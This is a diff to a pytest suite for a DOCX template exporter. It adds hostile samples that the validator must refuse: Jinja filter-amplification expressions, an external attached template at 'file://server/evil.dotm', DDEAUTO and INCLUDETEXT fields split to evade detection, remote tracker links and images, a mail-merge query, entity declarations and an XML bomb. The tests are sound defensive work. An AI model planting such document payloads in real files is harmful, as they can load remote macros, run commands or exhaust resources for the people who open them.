@@ -19,8 +19,13 @@ from pbwidgets.exports.docx import (
     Paragraph,
     Table,
     fill_template,
+    template_language,
+    write_starting_template,
 )
-from pbwidgets.exports.docx.template_files import LARGEST_UNPACKED
+from pbwidgets.exports.docx.template_files import LARGEST_UNPACKED, read_template
+from tests.office import Office
+
+pytestmark = pytest.mark.xdist_group("office")
 
 GIVEN = OfficialDocument(
     (Heading(0, "通报"), Heading(1, "命名"), Paragraph("名单：<w:p/>&{{ title }}")),
@@ -91,6 +96,11 @@ HOSTILE = [
     ("{{ title|safe }}", "template.unknown_filter"),
     ("{{ body|join(attribute='text') }}", "template.refused"),
     ("{{ '" + "x" * 200 + "' }}", "template.refused"),
+    ("{{ title|join(title|join(title)) }}", "template.refused"),
+    ("{{ title|join(title) }}", "template.refused"),
+    ("{{ title|join('xxxxxxxxx')|join('xxxxxxxxx') }}", "template.refused"),
+    ("{{ (title|join('x') if title else title)|join('x') }}", "template.refused"),
+    ("{{ title|default(title|join('x')) }}", "template.refused"),
     ("{% include 'other.docx' %}", "template.refused"),
     ("{% import 'other' as other %}", "template.refused"),
     ("{% extends 'other' %}", "template.refused"),
@@ -142,6 +152,38 @@ def attach(parts: dict[str, bytes]) -> None:
     parts["word/_rels/settings.xml.rels"] = f"{head}{line}</Relationships>".encode()
 
 
+RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
+WORDS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+AWAY = f'Type="{REL}/attachedTemplate" Target="file://server/evil.dotm" TargetMode="External"'
+TYPES = "[Content_Types].xml"
+BEGIN, END = (f'<w:fldChar w:fldCharType="{kind}"/>' for kind in ("begin", "end"))
+
+
+def add_relations(line: str) -> Change:
+    whole = f'<Relationships xmlns="{RELATIONS}">{line}</Relationships>'.encode()
+    return lambda parts: parts.update({"word/_rels/settings.xml.rels": whole})
+
+
+def field(*said: str, more: str = "") -> str:
+    """A field whose instruction is cut into runs."""
+    runs = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in said)
+    inner = more.removeprefix("<w:p>").removesuffix("</w:p>")
+    return f"<w:p><w:r>{BEGIN}</w:r>{runs}{inner}<w:r>{END}</w:r></w:p>"
+
+
+def add_footer(text: str, head: str = "") -> Change:
+    """A footer whose name does not end as those of XML do."""
+
+    def change(parts: dict[str, bytes]) -> None:
+        relate("footer", "footer1.dat", "")(parts)
+        parts["word/footer1.dat"] = f'{head}<w:ftr xmlns:w="{WORDS}">{text}</w:ftr>'.encode()
+        kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.footer+xml"
+        line = f'<Override PartName="/word/footer1.dat" ContentType="{kind}"/></Types>'
+        parts[TYPES] = parts[TYPES].replace(b"</Types>", line.encode())
+
+    return change
+
+
 FILES: list[tuple[str, Change, str]] = [
     ("macro", lambda parts: parts.update({"word/vbaProject.bin": b"x"}), "template.macros"),
     (
@@ -182,6 +224,61 @@ FILES: list[tuple[str, Change, str]] = [
         ),
         "template.entities",
     ),
+    ("attached template behind a mark", add_relations(f'<Relationship Id="a>" {AWAY}/>'), "template.outside"),
+    (
+        "attached template of another prefix",
+        add_relations(f'<r-x:Relationship xmlns:r-x="{RELATIONS}" Id="a" {AWAY}/>'),
+        "template.outside",
+    ),
+    ("a relation to an address", relate("image", "http://tracker.invalid/p.png", ""), "template.outside"),
+    (
+        "field of another prefix",
+        put(f'<w:p><w:r>{BEGIN}<y:instrText xmlns:y="{WORDS}">DDEAUTO c:/x</y:instrText>{END}</w:r></w:p>'),
+        "template.part",
+    ),
+    ("field in two by a remark", put(field("INC{# #}LUDETEXT c:/x")), "template.part"),
+    ("field after a harmless one", put(field(" PAGE", 'INCLUDETEXT "c:/x"')), "template.part"),
+    ("field in a field", put(field("REF a", more=field("SEQ a"))), "template.part"),
+    ("field whose end is missing", put(field(" PAGE ").replace(END, "")), "template.part"),
+    ("link to a page by a field", put(field('HYPERLINK "http://tracker.invalid"')), "template.part"),
+    ("field in a footer of another ending", add_footer(field("INCLUDETEXT c:/x")), "template.part"),
+    (
+        "entity in a footer of another ending",
+        add_footer("", head='<!DOCTYPE x [<!ENTITY a "b">]>'),
+        "template.entities",
+    ),
+    ("part of an unknown type", lambda parts: parts.update({"word/a.dat": b"x"}), "template.part"),
+    (
+        "picture that is another file",
+        lambda parts: parts.update({"docProps/thumbnail.jpeg": b"\xd0\xcf\x11\xe0"}),
+        "template.part",
+    ),
+    (
+        "picture of VML from elsewhere",
+        put('<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="//server/p.png"/>'),
+        "template.outside",
+    ),
+    (
+        "mail merge",
+        put(f'<q:mailMerge xmlns:q="{WORDS}"><q:query q:val="SELECT 1"/></q:mailMerge>'),
+        "template.part",
+    ),
+    (
+        "a type said twice",
+        lambda parts: parts.update(
+            {
+                TYPES: parts[TYPES].replace(
+                    b"</Types>", b'<Default Extension="XML" ContentType="a/b"/></Types>'
+                )
+            }
+        ),
+        "template.part",
+    ),
+    (
+        "many marks",
+        lambda parts: parts.update({"customXml/item1.xml": b"<a>" + b"<b/>" * 1_000_000 + b"</a>"}),
+        "template.too_big",
+    ),
     ("no document", lambda parts: parts.pop("word/document.xml"), "template.no_document"),
     ("damaged", lambda parts: parts.update({"word/document.xml": b"<w:document>"}), "template.no_document"),
     (
@@ -199,6 +296,48 @@ def test_a_file_that_holds_more_than_text_and_pictures_is_refused(
     with pytest.raises(DataError, match=r"own\.docx") as caught:
         fill(tmp_path, "{{ title }}", change=change)
     assert caught.value.code == code
+
+
+def test_the_document_that_is_made_is_looked_at_like_the_template(tmp_path: Path) -> None:
+    # the paragraph of a condition goes as a whole, and with it the beginning of a field
+    head = field(" PAGE ").replace(
+        END, '<w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{%p if title %}</w:t>'
+    )
+    whole = f"{head}<w:p><w:r>{END}</w:r></w:p><w:p><w:r><w:t>{{%p endif %}}</w:t></w:r></w:p>"
+    path = template(tmp_path, "{{ title }}", change=put(whole))
+    read_template(path)
+    with pytest.raises(DataError, match="fldChar") as caught:
+        fill_template(GIVEN, path, tmp_path / "made.docx")
+    assert caught.value.code == "template.part"
+    assert not (tmp_path / "made.docx").exists()
+
+
+def test_what_all_parts_make_together_is_bounded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    path = template(tmp_path, "{{ title }}")
+    fill_template(GIVEN, path, tmp_path / "made.docx")
+    monkeypatch.setattr(template_language, "MOST_CHARACTERS", 1000)
+    with pytest.raises(DataError, match=r"own\.docx") as caught:
+        fill_template(GIVEN, path, tmp_path / "made.docx")
+    assert caught.value.code == "template.makes_too_much"
+
+
+@pytest.mark.parametrize(
+    "said",
+    [" PAGE ", r"NUMPAGES \* MERGEFORMAT", r'TOC \o "1-3" \h \z \u', r'DATE \@ "yyyy年M月d日"', "PAGEREF _Toc1 \\h",
+     r'HYPERLINK \l "_Toc1"'],
+)  # fmt: skip
+def test_fields_that_count_name_the_day_or_point_within_the_document_may_stand(
+    said: str, tmp_path: Path
+) -> None:
+    assert "通报" in fill(tmp_path, "{{ title }}", change=put(field(*said)))
+
+
+def test_templates_that_libreoffice_saved_again_are_still_templates(office: Office, tmp_path: Path) -> None:
+    own = template(tmp_path, "{{ title }}")
+    started = write_starting_template(tmp_path / "start.docx")
+    for saved in office.convert([own, started], "docx", tmp_path / "saved"):
+        made = fill_template(GIVEN, saved, tmp_path / "made.docx")
+        assert "通报" in [paragraph.text for paragraph in Document(str(made)).paragraphs]
 
 
 @pytest.mark.parametrize("content", [b"", b"no zip", b"PK\x03\x04broken"])
